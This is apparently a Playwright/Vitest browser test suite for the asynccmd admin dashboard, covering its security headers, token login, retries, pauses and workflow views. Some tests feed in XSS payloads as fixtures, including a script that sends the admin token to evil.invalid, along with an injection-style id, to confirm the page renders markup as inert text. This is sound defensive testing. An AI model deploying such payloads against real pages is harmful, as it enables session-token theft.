import { COMMAND_STATUSES, type CommandId, type CommandStore } from '@asynccmd/core';
import { copyFileSync, mkdirSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAdminServer, type AdminServer } from '../../../src/ops/admin-server.js';
import { DASHBOARD_MODULES } from '../../../src/ops/dashboard/assets.js';
import { readStats } from '../../../src/ops/stats-view.js';
import type { OpsDatabase } from '../admin-http.suite.js';
import { client, errorCode, rawRequest } from '../http-client.js';
import { claim, failLastAttempt, makeDead, submit, submitWorkflow, succeed } from '../support.js';
import { openBrowser, watchedPage, type Browser, type WatchedPage } from './browser.js';
import { erp, orderRuntime, seedDemoData, type DemoData } from './demo-data.js';

const TOKEN = 'dashboard-token-0123456789abcdef';
const REPO_ROOT = fileURLToPath(new URL('../../../../../', import.meta.url));
/** Short buckets and a short window, so a test's few seconds fill more than one bar. */
const DASHBOARD = { refreshMs: 300, bucketMs: 1_000, windowMs: 30_000 } as const;

export interface DashboardSuiteOptions {
  /** Save a screenshot of the overview (to .tmp/, and to docs/ with ASYNCCMD_SCREENSHOT=1). */
  readonly screenshot?: boolean;
}

/** Counts every call the admin server makes on the store. */
function countedStore(store: CommandStore): { store: CommandStore; calls: Map<string, number> } {
  const calls = new Map<string, number>();
  const counted = new Proxy(store, {
    get(target, property) {
      const value: unknown = Reflect.get(target, property);
      if (typeof value !== 'function' || typeof property !== 'string') return value;
      const method = value as (...a: unknown[]) => unknown;
      return (...args: unknown[]) => {
        calls.set(property, (calls.get(property) ?? 0) + 1);
        return method.apply(target, args);
      };
    },
  });
  return { store: counted, calls };
}

const total = (calls: Map<string, number>) => [...calls.values()].reduce((a, b) => a + b, 0);

/** The browser suite of the dashboard against one real database. */
export function describeDashboard(
  name: string,
  open: () => Promise<OpsDatabase>,
  suiteOptions: DashboardSuiteOptions = {},
): void {
  describe(`dashboard in Chromium on ${name}`, () => {
    let db: OpsDatabase;
    let store: CommandStore;
    let data: DemoData;
    let server: AdminServer;
    let browser: Browser;
    let page: WatchedPage;
    let dashboardUrl: string;

    beforeAll(async () => {
      db = await open();
      store = db.store;
      [data, browser] = await Promise.all([seedDemoData(store), openBrowser()]);
      server = await startAdminServer({ store, token: TOKEN, dashboard: DASHBOARD });
      dashboardUrl = `${server.url}/dashboard`;
      page = await watchedPage(browser.context);
    }, 120_000);

    afterAll(async () => {
      await browser?.close();
      await server?.close();
      await db?.dispose();
    });

    async function logIn(p: Page, url = dashboardUrl): Promise<void> {
      await p.goto(url);
      await p.locator('#token').fill(TOKEN);
      await p.locator('#login-form button[type=submit]').click();
      await p.locator('#view-overview').waitFor({ state: 'visible' });
    }

    /** Same-document navigation to a view of the logged-in page. */
    async function go(hash: string): Promise<void> {
      await page.page.evaluate(`location.hash = ${JSON.stringify(hash)}`);
    }

    const poll = <T>(fn: () => Promise<T>) => expect.poll(fn, { timeout: 15_000, interval: 100 });

    it('serves the page and its files with their types, a strict CSP and nosniff; the data needs the token', async () => {
      const api = client(server.url, TOKEN);
      const expectations: [string, RegExp][] = [
        ['/dashboard', /^text\/html/],
        ...DASHBOARD_MODULES.map((file): [string, RegExp] => [`/dashboard/${file}`, /^text\/javascript/]),
        ['/dashboard/app.css', /^text\/css/],
        ['/dashboard/icon.svg', /^image\/svg\+xml/],
      ];
      for (const [path, type] of expectations) {
        const a = await api.anonymous.get(path);
        expect(a.status, path).toBe(200);
        expect(a.headers.get('content-type'), path).toMatch(type);
        expect(a.headers.get('x-content-type-options'), path).toBe('nosniff');
        expect(a.headers.get('referrer-policy'), path).toBe('no-referrer');
        const csp = a.headers.get('content-security-policy') ?? '';
        for (const directive of [
          "default-src 'none'",
          "script-src 'self'",
          "style-src 'self'",
          "frame-ancestors 'none'",
          "require-trusted-types-for 'script'",
        ]) {
          expect(csp, path).toContain(directive);
        }
        expect(csp).not.toMatch(/unsafe-(inline|eval)/);
        // Unchanged files are revalidated, not sent again.
        const again = await rawRequest(server.url, 'GET', path, {
          'If-None-Match': a.headers.get('etag') ?? '',
        });
        expect(again.status, path).toBe(304);
      }
      const html = (await api.anonymous.get('/dashboard')).text;
      expect(html).not.toMatch(/<script>|<style>| style=| on[a-z]+=/);
      expect(html).toContain('<script type="module" src="/dashboard/app.js"></script>');
      expect(html).not.toContain(TOKEN);

      for (const path of ['/dashboard/api/summary', `/dashboard/api/commands/${data.running}/contents`]) {
        expect((await api.anonymous.get(path)).status, path).toBe(401);
        expect((await api.get(path)).status, path).toBe(200);
      }
      const dead = data.dead[0] as CommandId;
      expect((await api.anonymous.post('/dashboard/api/retry', { ids: [dead] })).status).toBe(401);
      // Through the admin API's checks: JSON only, and no page of another origin.
      const typed = await rawRequest(server.url, 'POST', '/dashboard/api/retry', {
        Authorization: `Bearer ${TOKEN}`,
        'Content-Type': 'text/plain',
      });
      expect(typed.status).toBe(415);
      const foreign = await rawRequest(
        server.url,
        'POST',
        '/dashboard/api/retry',
        {
          Authorization: `Bearer ${TOKEN}`,
          'Content-Type': 'application/json',
          Origin: 'http://evil.example',
        },
        JSON.stringify({ ids: [dead] }),
      );
      expect(errorCode(foreign)).toBe('ORIGIN_NOT_ALLOWED');
      // Bounded: a page of ids at most, each one a real id.
      const many = Array.from({ length: 101 }, (_, i) => String(i + 1));
      expect(errorCode(await api.post('/dashboard/api/retry', { ids: many }))).toBe('INVALID_ARGUMENT');
      expect(errorCode(await api.post('/dashboard/api/retry', { ids: ['1; DROP'] }))).toBe('INVALID_ID');
      expect(errorCode(await api.post('/dashboard/api/retry', { all: true }))).toBe('INVALID_ARGUMENT');
      expect((await store.get(dead))?.status).toBe('DEAD');
      // The claim token never leaves the store.
      const contents = (await api.get(`/dashboard/api/commands/${data.running}/contents`)).text;
      const claimed = await store.get(data.running);
      expect(contents).not.toContain(claimed?.claimToken ?? 'no token');
    });

    it('logs in, then shows health first and the counts the database has', async () => {
      const p = page.page;
      await p.goto(dashboardUrl);
      await p.locator('#login').waitFor({ state: 'visible' });
      expect(await p.locator('#view-overview').isHidden()).toBe(true);
      await logIn(p);
      // The token went into sessionStorage, and is nowhere on the page.
      expect(await p.evaluate('sessionStorage.getItem("asynccmd.adminToken")')).toBe(TOKEN);
      expect(await p.locator('#token').inputValue()).toBe('');
      expect(await p.content()).not.toContain(TOKEN);

      const stats = await readStats(store);
      expect(stats.byStatus.DEAD).toBe(data.dead.length);
      expect(data.dead.length).toBeGreaterThan(0);
      await poll(() => p.locator('#health-badge').textContent()).toBe('DOWN');
      expect(await p.locator('#health-reasons').textContent()).toContain('DEAD_LETTERS');
      for (const status of COMMAND_STATUSES) {
        await poll(() => p.locator(`[data-status="${status}"]`).textContent()).toBe(
          String(stats.byStatus[status]),
        );
      }
      expect(await p.locator('#oldest-pending').textContent()).toMatch(
        /Oldest due pending command: due .*, waiting/,
      );
      for (const [type, counts] of Object.entries(stats.byType)) {
        const row = p.locator('#type-counts tr', { hasText: type });
        // The cells after the counts hold the Pause button, where the store keeps pauses.
        expect((await row.locator('td').allTextContents()).slice(0, COMMAND_STATUSES.length + 1)).toEqual([
          type,
          ...COMMAND_STATUSES.map((s) => String(counts[s])),
        ]);
      }
      // Throughput over the window: every SUCCESS and DEAD of the seed finished inside it.
      await poll(() => p.locator('#throughput-caption').textContent()).toContain(
        `${stats.byStatus.SUCCESS} succeeded, ${stats.byStatus.DEAD} dead`,
      );
      expect(await p.locator('#throughput-chart rect').count()).toBeGreaterThan(0);
      expect(await p.locator('#latency-caption').textContent()).toMatch(/^p95 /);
      // The distribution of the same outcomes: percentiles and one bar per latency bound used.
      expect(await p.locator('#distribution-caption').textContent()).toMatch(
        new RegExp(`^p50 .+ · p95 .+ · p99 .+ of ${stats.byStatus.SUCCESS + stats.byStatus.DEAD} outcomes`),
      );
      expect(await p.locator('#distribution-chart rect').count()).toBeGreaterThan(0);
      // No recurring schedules exist: their section stays out of the way.
      expect(await p.locator('#schedules-panel').isHidden()).toBe(true);
      // No flow limits either.
      expect(await p.locator('#limits-panel').isHidden()).toBe(true);
      expect(page.problems).toEqual([]);
    });

    if (suiteOptions.screenshot) {
      it('takes the screenshot of the overview for the README', async () => {
        mkdirSync(`${REPO_ROOT}.tmp`, { recursive: true });
        const file = `${REPO_ROOT}.tmp/dashboard.png`;
        await page.page.screenshot({ path: file, fullPage: true });
        if (process.env['ASYNCCMD_SCREENSHOT'] === '1') copyFileSync(file, `${REPO_ROOT}docs/dashboard.png`);
      });
    }

    it('lists the dead letters with their lastError', async () => {
      const p = page.page;
      // The panel shows the newest 10 (its default); a busy machine's retries can make more than 10.
      const shownByDefault = 10;
      const newest = (await store.list({ status: 'DEAD', limit: shownByDefault })).items.map((c) => c.id);
      expect(newest.length).toBe(Math.min(data.dead.length, shownByDefault));
      if (data.dead.length > shownByDefault) {
        await poll(() => p.locator('#dead-caption').textContent()).toContain(
          `the newest ${shownByDefault} shown`,
        );
      }
      for (const id of newest) {
        const record = await store.get(id);
        const row = p.locator(`#dead-letters tr[data-id="${id}"]`);
        await poll(() => row.count()).toBe(1);
        expect(await row.locator('td.error-text').textContent()).toBe(record?.lastError);
        expect(record?.lastError).toMatch(/^(external|notification|inventory): answered/);
      }
    });

    it('shows a rate limit with the tokens its bucket holds now, and a limit per key', async () => {
      const p = page.page;
      await store.rateLimits?.declare([
        { type: 'order.sync-external', maxStarts: 120, periodMs: 60_000, burst: 12 },
      ]);
      await store.keyLimits?.declare([{ type: 'order.notify-user', keyField: 'orderId', maxRunning: 2 }]);
      const rated = p.locator('#limits tr[data-type="order.sync-external"]');
      await poll(() => rated.count()).toBe(1);
      expect(await p.locator('#limits-panel').isHidden()).toBe(false);
      expect(await rated.locator('td').allTextContents()).toEqual([
        'order.sync-external',
        'at most 120 starts per 1m 0s (burst 12)',
        expect.stringMatching(/^12 token\(s\) left, \d+ pending$/),
      ]);
      // Declared after the rate limit: a refresh between the two shows only the first.
      const keyed = p.locator('#limits tr[data-type="order.notify-user"]');
      await poll(() => keyed.count()).toBe(1);
      expect(await keyed.locator('td').allTextContents()).toEqual([
        'order.notify-user',
        'at most 2 running per orderId',
        expect.stringMatching(/^\d+ running, \d+ pending(, \d+ key\(s\) waiting.*)?$/),
      ]);
      // The keys waiting of a keyed type, and its busiest key.
      await store.keyLimits.declare([{ type: 'report.fair', keyField: 'tenant', maxRunning: 1 }]);
      await claim(store, await submit(store, 'report.fair', { payload: { tenant: 'acme' } }));
      await submit(store, 'report.fair', { payload: { tenant: 'acme' } });
      await submit(store, 'report.fair', { payload: { tenant: 'zeta' } });
      const fair = p.locator('#limits tr[data-type="report.fair"] td').nth(2);
      await poll(async () => ((await fair.count()) === 0 ? '' : await fair.textContent())).toBe(
        '1 running, 2 pending, 2 key(s) waiting (1 at the limit), busiest acme: 1 running, 1 due',
      );
      expect(page.problems).toEqual([]);
    });

    it('filters the list by status, type, bizKey and id, and pages with the cursor', async () => {
      const p = page.page;
      await go('#/commands');
      await p.locator('#view-commands').waitFor({ state: 'visible' });
      await p.locator('#filters select[name=status]').selectOption('SUCCESS');
      await p.locator('#filters button[type=submit]').click();
      const successes = (await readStats(store)).byStatus.SUCCESS;
      expect(successes).toBeGreaterThan(50);
      const ids = () =>
        p.locator('#command-list tr').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-id')));
      await poll(async () => (await ids()).length).toBe(50);
      const first = await ids();
      expect(await p.locator('#first-page').isDisabled()).toBe(true);
      await p.locator('#next-page').click();
      await poll(async () => (await ids()).length).toBe(successes - 50);
      const second = await ids();
      // The pages follow the store's own order (newest first by creation time, then id).
      const all = await store.list({ status: 'SUCCESS', limit: 1000 });
      expect([...first, ...second]).toEqual(all.items.map((c) => c.id));
      expect(await p.locator('#next-page').isDisabled()).toBe(true);
      await p.locator('#first-page').click();
      await poll(ids).toEqual(first);

      const order = await store.list({ bizKey: 'order-1002', limit: 10 });
      await go('#/commands?bizKey=order-1002');
      await poll(ids).toEqual(order.items.map((c) => c.id));
      const typed = await store.list({ type: 'order.sync-external', status: 'DEAD', limit: 50 });
      await go('#/commands?status=DEAD&type=order.sync-external');
      await poll(ids).toEqual(typed.items.map((c) => c.id));
      await go(`#/commands?id=${data.running}`);
      await poll(ids).toEqual([data.running]);
      await go('#/commands?id=999999999');
      await poll(() => p.locator('#list-error').textContent()).toContain('NOT_FOUND');
    });

    it("shows a command's status, attempts, timestamps, lease and owner, payload and headers", async () => {
      const p = page.page;
      const running = await store.get(data.running);
      await go(`#/commands/${data.running}`);
      await poll(() => p.locator('#detail-title').textContent()).toBe(`Command ${data.running} RUNNING`);
      const names = await p.locator('#detail-fields dt').allTextContents();
      const values = await p.locator('#detail-fields dd').allTextContents();
      const field = (n: string) => values[names.indexOf(n)];
      expect(field('owner')).toBe('order-demo');
      expect(running?.leaseUntil).not.toBeNull();
      expect(field('lease until')).not.toBe('–');
      expect(field('started')).not.toBe('–');
      expect(field('bizKey')).toBe('order-2001');
      expect(JSON.parse((await p.locator('#detail-payload').textContent()) ?? '')).toEqual(running?.payload);
      expect(await p.locator('#detail-attempts').textContent()).toContain('maxRetry');

      const withHeaders = (await store.list({ bizKey: 'order-1001', limit: 1 })).items[0];
      await go(`#/commands/${withHeaders?.id}`);
      await poll(async () =>
        JSON.parse((await p.locator('#detail-headers').textContent()) || 'null'),
      ).toEqual(withHeaders?.headers);
      expect(Object.keys(withHeaders?.headers ?? {})).toContain('traceparent');
    });

    it('retries a dead letter from the page, and the runtime completes it', async () => {
      const p = page.page;
      const id = data.dead[0] as CommandId;
      erp.refusing = false;
      const runtime = orderRuntime(store, false);
      runtime.start();
      try {
        await go(`#/commands/${id}`);
        await p.locator('[data-action="retry"]').click();
        const dialog = p.locator('#confirm');
        await dialog.waitFor({ state: 'visible' });
        expect(await p.locator('#confirm-message').textContent()).toMatch(
          /is DEAD\. Retry makes it PENDING with fresh attempts, due now/,
        );
        await p.locator('#confirm-ok').click();
        await poll(async () => (await store.get(id))?.status).toBe('SUCCESS');
        await p.reload();
        await poll(() => p.locator('#detail-title').textContent()).toBe(`Command ${id} SUCCESS`);
      } finally {
        await runtime.stop({ closeStore: false });
        erp.refusing = true;
      }
    });

    it('requeues, cancels and kills with a reason, each after a confirmation that says what happens', async () => {
      const p = page.page;
      const act = async (id: CommandId, action: string) => {
        await go(`#/commands/${id}`);
        await p.locator(`[data-action="${action}"]`).click();
        await p.locator('#confirm').waitFor({ state: 'visible' });
        return (await p.locator('#confirm-message').textContent()) ?? '';
      };

      expect(await act(data.running, 'requeue')).toMatch(
        /PENDING, due now, and fences out the current claim/,
      );
      await p.locator('#confirm-ok').click();
      await poll(async () => (await store.get(data.running))?.status).toBe('PENDING');

      const delayed = data.delayed[0] as CommandId;
      expect(await act(delayed, 'cancel')).toMatch(/has not started\. Cancel makes it CANCELLED/);
      await p.locator('#confirm button[value=cancel]').click();
      await p.locator('#confirm').waitFor({ state: 'hidden' });
      expect((await store.get(delayed))?.status).toBe('PENDING');
      await act(delayed, 'cancel');
      await p.locator('#confirm-reason').fill('the customer changed their mind');
      await p.locator('#confirm-ok').click();
      await poll(async () => (await store.get(delayed))?.status).toBe('CANCELLED');
      expect((await store.get(delayed))?.lastError).toBe('the customer changed their mind');

      const due = data.due[0] as CommandId;
      expect(await act(due, 'kill')).toMatch(/is PENDING\. Kill makes it CANCELLED: it will never run again/);
      // A kill needs its reason: without one, nothing happens.
      await p.locator('#confirm-ok').click();
      expect(await p.locator('#confirm').isVisible()).toBe(true);
      expect((await store.get(due))?.status).toBe('PENDING');
      await p.locator('#confirm-reason').fill('report no longer needed');
      await p.locator('#confirm-ok').click();
      await poll(async () => (await store.get(due))?.status).toBe('CANCELLED');
      expect((await store.get(due))?.lastError).toBe('report no longer needed');
      await poll(() => p.locator('#toast').textContent()).toContain('kill done, now CANCELLED');
    });

    it('says attempts in words, shows a cancel reason apart from errors, and spaces the detail buttons from the fields', async () => {
      const p = page.page;
      const cell = async (id: CommandId, column: number) => {
        await go(`#/commands?id=${id}`);
        const row = p.locator(`#command-list tr[data-id="${id}"]`);
        await poll(() => row.count()).toBe(1);
        return row.locator('td').nth(column);
      };
      // Never failed and still to run: the attempt it is on, of how many it may take.
      expect(await (await cell(data.due[1] as CommandId, 4)).textContent()).toMatch(/^attempt 1 of \d+$/);
      // Failed (its failures over its life), never "3 failed of 3".
      const dead = data.dead[data.dead.length - 1] as CommandId;
      const failed = (await store.get(dead))?.retryCount ?? 0;
      expect(failed).toBeGreaterThan(0);
      expect(await (await cell(dead, 4)).textContent()).toBe(
        `failed ${failed} time${failed === 1 ? '' : 's'}`,
      );
      // A cancel reason is a reason, not an error: not in the error style, and named so in the detail.
      const cancelled = (await store.list({ status: 'CANCELLED', limit: 1 })).items[0];
      expect(cancelled?.lastError).toBeTruthy();
      const reason = await cell(cancelled?.id as CommandId, 5);
      expect(await reason.getAttribute('class')).toBe('reason-text');
      expect(await reason.textContent()).toBe(cancelled?.lastError);
      await go(`#/commands/${cancelled?.id}`);
      await poll(() => p.locator('#detail-fields dt').allTextContents()).toContain('reason');
      // The buttons of the detail view stand clear of the first field row.
      await go(`#/commands/${dead}`);
      await poll(() => p.locator('[data-action="retry"]').count()).toBe(1);
      const buttons = await p.locator('#detail-actions').boundingBox();
      const firstField = await p.locator('#detail-fields dt').first().boundingBox();
      expect((firstField?.y ?? 0) - ((buttons?.y ?? 0) + (buttons?.height ?? 0))).toBeGreaterThanOrEqual(12);
    });

    it('keeps payloads, errors, types and keys that carry markup as inert text', async () => {
      const p = page.page;
      const type = 'order.<img src=x onerror=alert(1)>';
      const payload = {
        note: '<script>alert("payload")</script>',
        breakout: '"><img src="http://evil.invalid/p.png" onerror="alert(2)">',
      };
      const bizKey = '"><svg onload=alert(3)>';
      const error = `<script>fetch('http://evil.invalid/steal?'+sessionStorage.getItem('asynccmd.adminToken'))</script><img src=x onerror="alert(4)">`;
      const id = await submit(store, type, {
        maxRetry: 0,
        bizKey,
        payload,
        owner: '<b onmouseover=alert(5)>owner</b>',
        headers: { 'x-note': '<iframe src="http://evil.invalid/"></iframe>' },
      });
      await failLastAttempt(store, id, error);

      await go('#/');
      const row = p.locator(`#dead-letters tr[data-id="${id}"]`);
      await poll(() => row.count()).toBe(1);
      expect(await row.locator('td').allTextContents()).toEqual(
        expect.arrayContaining([type, bizKey, error]),
      );
      await poll(() => p.locator('#type-counts').textContent()).toContain(type);
      await go(`#/commands?bizKey=${encodeURIComponent(bizKey)}`);
      await poll(() => p.locator('#command-list tr').count()).toBe(1);
      expect(await p.locator('#command-list td.error-text').textContent()).toBe(error);
      await go(`#/commands/${id}`);
      await poll(async () =>
        JSON.parse((await p.locator('#detail-payload').textContent()) || 'null'),
      ).toEqual(payload);
      expect(await p.locator('#detail-fields').textContent()).toContain('<b onmouseover=alert(5)>owner</b>');
      expect(await p.locator('#detail-headers').textContent()).toContain('<iframe src=');

      // Nothing ran, nothing was fetched from elsewhere, no element was made from the text.
      await sleep(200);
      expect(page.dialogs).toEqual([]);
      const origin = new URL(server.url).origin;
      expect(page.requests.filter((u) => new URL(u).origin !== origin)).toEqual([]);
      for (const selector of [
        'img',
        'iframe',
        'b',
        'main script',
        '[onerror]',
        '[onload]',
        '[onmouseover]',
      ]) {
        expect(await p.locator(selector).count(), selector).toBe(0);
      }
      expect(await p.locator('script').count()).toBe(1);
      expect(await p.locator('svg[onload], svg:not(.chart svg)').count()).toBe(0);
      expect(page.problems).toEqual([]);
    });

    it("shows a succeeded command's result pretty-printed, markup in it as text, a long one scrolling", async () => {
      const p = page.page;
      const complete = async (result?: unknown): Promise<CommandId> => {
        const c = await claim(store, await submit(store, 'invoice.issue'));
        const resultJson = result === undefined ? {} : { resultJson: JSON.stringify(result) };
        await store.complete([{ id: c.id, token: c.claimToken, ...resultJson }]);
        return c.id;
      };
      const result = {
        invoice: 'INV-2041',
        note: '<script>alert("result")</script>',
        breakout: '</pre><img src="http://evil.invalid/r.png" onerror="alert(6)">',
      };
      const id = await complete(result);
      await go(`#/commands/${id}`);
      await poll(() => p.locator('#detail-title').textContent()).toBe(`Command ${id} SUCCESS`);
      const shown = p.locator('#detail-result');
      await poll(() => shown.isVisible()).toBe(true);
      expect(await shown.textContent()).toBe(JSON.stringify(result, null, 2));
      expect(await shown.locator('*').count()).toBe(0);
      await sleep(200);
      expect(page.dialogs).toEqual([]);
      expect(await p.locator('img, [onerror], main script').count()).toBe(0);
      const origin = new URL(server.url).origin;
      expect(page.requests.filter((u) => new URL(u).origin !== origin)).toEqual([]);

      // A long result keeps the page's layout: its box scrolls.
      const long = await complete({ lines: Array.from({ length: 400 }, (_, i) => `line ${i}`) });
      await go(`#/commands/${long}`);
      await poll(() => p.locator('#detail-title').textContent()).toBe(`Command ${long} SUCCESS`);
      await poll(() => shown.textContent()).toContain('line 399');
      const box = await shown.evaluate((e) => ({ scroll: e.scrollHeight, client: e.clientHeight }));
      expect(box.scroll).toBeGreaterThan(box.client);

      // No result: no Result section, and none left over from the command shown before.
      const bare = await complete();
      await go(`#/commands/${bare}`);
      await poll(() => p.locator('#detail-title').textContent()).toBe(`Command ${bare} SUCCESS`);
      expect(await p.locator('#detail-result-block').isVisible()).toBe(false);
      expect(await shown.textContent()).toBe('');
      expect(page.problems).toEqual([]);
    });

    it('refuses a mutation without the token, from the page as from anywhere', async () => {
      const p = page.page;
      const id = await makeDead(store, 'order.sync-external', 'still no article mapping');
      const post = (path: string, authorization?: string) =>
        p.evaluate(
          `fetch(${JSON.stringify(`${server.url}${path}`)}, { method: 'POST', body: '{"ids":["${id}"]}',
             headers: { 'Content-Type': 'application/json'${authorization ? `, Authorization: ${JSON.stringify(authorization)}` : ''} } })
           .then((r) => r.status)`,
        );
      expect(await post(`/commands/${id}/retry`)).toBe(401);
      expect(await post(`/commands/${id}/retry`, 'Bearer wrong-token-0123456789')).toBe(401);
      expect(await post('/dashboard/api/retry')).toBe(401);
      expect((await store.get(id))?.status).toBe('DEAD');

      // A wrong token is refused at the login, and nothing is shown behind it.
      const other = await watchedPage(browser.context);
      try {
        await other.page.goto(dashboardUrl);
        await other.page.locator('#token').fill('wrong-token-0123456789');
        await other.page.locator('#login-form button[type=submit]').click();
        await poll(() => other.page.locator('#login-error').textContent()).toContain(
          'That token was refused',
        );
        expect(await other.page.locator('#view-overview').isHidden()).toBe(true);
        expect(await other.page.evaluate('sessionStorage.getItem("asynccmd.adminToken")')).toBeNull();
      } finally {
        await other.page.close();
      }
    });

    it("needs no login where the API runs with auth: 'none' (loopback only)", async () => {
      const open = await startAdminServer({ store, auth: 'none', dashboard: DASHBOARD });
      const w = await watchedPage(browser.context);
      try {
        await w.page.goto(`${open.url}/dashboard`);
        await w.page.locator('#view-overview').waitFor({ state: 'visible' });
        expect(await w.page.locator('#login').isHidden()).toBe(true);
        expect(await w.page.locator('#logout').isHidden()).toBe(true);
        await poll(() => w.page.locator('[data-status="DEAD"]').textContent()).toBe(
          String((await readStats(store)).byStatus.DEAD),
        );
        expect(w.problems).toEqual([]);
      } finally {
        await w.page.close();
        await open.close();
      }
    });

    it('retries the dead letters a filter shows, at once, after saying which', async () => {
      const p = page.page;
      const shown = (await store.list({ status: 'DEAD', type: 'order.sync-external', limit: 50 })).items;
      expect(shown.length).toBeGreaterThan(1);
      await go('#/commands?status=DEAD&type=order.sync-external');
      const bulk = p.locator('#bulk-retry');
      await poll(() => bulk.textContent()).toBe(`Retry the ${shown.length} dead letter(s) shown`);
      await bulk.click();
      await p.locator('#confirm').waitFor({ state: 'visible' });
      const message = (await p.locator('#confirm-message').textContent()) ?? '';
      for (const c of shown.slice(0, 12)) expect(message).toContain(c.id);
      await p.locator('#confirm-ok').click();
      await poll(() => p.locator('#toast').textContent()).toBe(`Retried ${shown.length} dead letter(s).`);
      for (const c of shown) expect((await store.get(c.id))?.status).toBe('PENDING');
      // What the filter does not show stays as it was.
      expect(
        (await store.list({ status: 'DEAD', limit: 100 })).items.every(
          (c) => c.type !== 'order.sync-external',
        ),
      ).toBe(true);
    });

    it('pauses a type from the by-type table after saying what happens, shows the badge, and resumes it', async (ctx) => {
      const pauses = store.typePauses;
      if (pauses === undefined) return ctx.skip();
      const p = page.page;
      const type = 'order.notify-user';
      await go('#/');
      const row = p.locator(`#type-counts tr[data-type="${type}"]`);
      await row.locator('[data-action="pause-type"]').click();
      await p.locator('#confirm').waitFor({ state: 'visible' });
      expect(await p.locator('#confirm-message').textContent()).toMatch(
        new RegExp(`No instance will start a command of type ${type} until it is resumed: its \\d+ pending`),
      );
      // Going back changes nothing.
      await p.locator('#confirm button[value=cancel]').click();
      await p.locator('#confirm').waitFor({ state: 'hidden' });
      expect(await pauses.list()).toEqual([]);

      await row.locator('[data-action="pause-type"]').click();
      await p.locator('#confirm-reason').fill('the mail provider is down');
      await p.locator('#confirm-ok').click();
      await poll(async () => (await pauses.list()).map((x) => [x.type, x.reason])).toEqual([
        [type, 'the mail provider is down'],
      ]);
      await poll(() => p.locator('#toast').textContent()).toBe(`Type ${type}: paused.`);
      await poll(() => row.locator('.badge.paused').count()).toBe(1);
      expect(await row.locator('.badge.paused').getAttribute('title')).toContain('the mail provider is down');
      // Only that type's row.
      expect(await p.locator('#type-counts .badge.paused').count()).toBe(1);

      await row.locator('[data-action="resume-type"]').click();
      await p.locator('#confirm').waitFor({ state: 'visible' });
      expect(await p.locator('#confirm-reason-label').isHidden()).toBe(true);
      await p.locator('#confirm-ok').click();
      await poll(() => pauses.list()).toEqual([]);
      await poll(() => row.locator('.badge.paused').count()).toBe(0);
      expect(await row.locator('[data-action="pause-type"]').count()).toBe(1);
      expect(page.problems).toEqual([]);
    });

    it("draws a workflow (steps in layers, their states, progress and edges), reached from a step's command", async () => {
      const p = page.page;
      const type = 'fulfil.step';
      const outside = await submit(store, type);
      // Markup and a slash in the id: shown as text, and through the URL as one segment.
      const workflowId = 'order <b>42</b>/ship';
      const ids = await submitWorkflow(store, workflowId, [
        { name: 'charge', type },
        { name: 'reserve', type, dependsOn: ['charge'] },
        { name: 'notify', type, dependsOn: [{ step: 'charge', onFailure: 'continue' }] },
        { name: 'ship', type, dependsOn: ['reserve', 'notify', { id: outside }] },
      ]);
      await succeed(store, ids.charge!);
      const reserving = await claim(store, ids.reserve!);
      await store.reportProgress([{ id: reserving.id, token: reserving.claimToken, done: 3, total: 8 }]);

      await go(`#/commands/${ids.reserve}`);
      await poll(() => p.locator('#detail-title').textContent()).toBe(`Command ${ids.reserve} RUNNING`);
      const names = await p.locator('#detail-fields dt').allTextContents();
      const values = await p.locator('#detail-fields dd').allTextContents();
      expect(values[names.indexOf('progress')]).toBe('3 of 8 (37%)');
      expect(values[names.indexOf('workflow')]).toBe(`${workflowId} (step reserve)`);
      expect(await p.locator('#detail-fields progress').getAttribute('value')).toBe('3');

      await p.locator('#detail-fields a[data-workflow]').click();
      await p.locator('#view-workflow').waitFor({ state: 'visible' });
      await poll(() => p.locator('#workflow-title').textContent()).toBe(`Workflow ${workflowId} processing`);
      expect(await p.locator('#workflow-title b').count()).toBe(0);
      // 1 step finished, and 3/8 of a running one: (1 + 0.375) / 4.
      expect(await p.locator('#workflow-summary').textContent()).toMatch(
        /^1 of 4 step\(s\) finished, 34% done/,
      );
      const layers = p.locator('#workflow-graph ol.wf-layer');
      expect(await layers.count()).toBe(3);
      const layer = (i: number) =>
        layers
          .nth(i)
          .locator('li.wf-step')
          .evaluateAll((cards) =>
            cards.map((c) => [c.getAttribute('data-step'), c.getAttribute('data-status')]),
          );
      expect(await layer(0)).toEqual([['charge', 'SUCCESS']]);
      expect(await layer(1)).toEqual([
        ['reserve', 'RUNNING'],
        ['notify', 'PENDING'],
      ]);
      expect(await layer(2)).toEqual([['ship', 'WAITING']]);
      const card = (step: string) => p.locator(`li.wf-step[data-step="${step}"]`);
      expect(await card('reserve').locator('progress').getAttribute('max')).toBe('8');
      expect(await card('ship').locator('.wf-after').textContent()).toBe(
        `after command ${outside}, reserve, notify`,
      );
      // An edge per dependency between shown steps, each drawn from left to right.
      const edges = await p.locator('#workflow-graph svg.wf-edges line').evaluateAll((lines) =>
        lines.map((l) => ({
          edge: `${l.getAttribute('data-from')}→${l.getAttribute('data-to')}`,
          rightwards: Number(l.getAttribute('x1')) < Number(l.getAttribute('x2')),
        })),
      );
      expect(edges.map((e) => e.edge).sort()).toEqual(
        ['charge→notify', 'charge→reserve', 'notify→ship', 'reserve→ship'].sort(),
      );
      expect(edges.every((e) => e.rightwards)).toBe(true);
      // Each step links to its command.
      await card('ship').locator('a').click();
      await poll(() => p.locator('#detail-title').textContent()).toBe(`Command ${ids.ship} WAITING`);

      await go('#/workflows/no-such-workflow');
      await poll(() => p.locator('#workflow-error').textContent()).toContain('NOT_FOUND');
      expect(page.problems).toEqual([]);
    });

    it('costs the database the same queries with ten open pages as with one: one summary per interval', async () => {
      const refreshMs = 250;
      const windowMs = 4_000;
      /** A server of its own on a store that counts its calls, with `pages` pages logged in. */
      const serve = async (pages: number) => {
        const counted = countedStore(store);
        const own = await startAdminServer({
          store: counted.store,
          token: TOKEN,
          dashboard: { ...DASHBOARD, refreshMs },
        });
        const open: WatchedPage[] = [];
        for (let i = 0; i < pages; i++) {
          const w = await watchedPage(browser.context);
          open.push(w);
          await logIn(w.page, `${own.url}/dashboard`);
        }
        return { counted, own, open, asked: [] as number[] };
      };
      const one = await serve(1);
      const ten = await serve(10);
      try {
        // Both over the same stretch of time (a shortened "minute"), so both see the same load.
        for (const run of [one, ten]) {
          run.asked = run.open.map((w) => w.requests.length);
          run.counted.calls.clear();
        }
        await sleep(windowMs);
        const [a, b] = [one, ten].map((run) => {
          const calls = new Map(run.counted.calls);
